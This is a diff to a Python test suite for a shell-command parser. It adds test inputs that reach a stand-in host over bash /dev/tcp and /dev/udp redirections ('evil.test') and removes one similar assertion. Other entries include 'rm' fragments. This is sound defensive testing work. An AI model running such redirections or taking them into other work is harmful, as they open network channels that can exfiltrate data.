@@ -146,6 +146,8 @@ def test_read_shell_names_every_program(command: Any, programs: list[str]) -> No
         "ls >",
         "| rm",
         "cmd >&2 rm x",
+        "cat < /dev/tcp/evil.test/80",
+        "echo x > /dev/udp/evil.test/53",
         'sh -c "sh -c \\"sh -c \'sh -c ls\'\\""',
         "x" * (MOST_CHARS + 1),
         [],
@@ -172,7 +174,6 @@ def test_read_shell_counts_and_lists_files() -> None:
         "substitutes": False,
     }
     assert read_shell("echo $(ls)")["substitutes"] is True
-    assert read_shell("cat < /dev/tcp/evil/80")["reads_files"] == ["/dev/tcp/evil/80"]
     assert read_shell("> out rm x") | {"commands": 1} == read_shell("rm x > out")
 
 
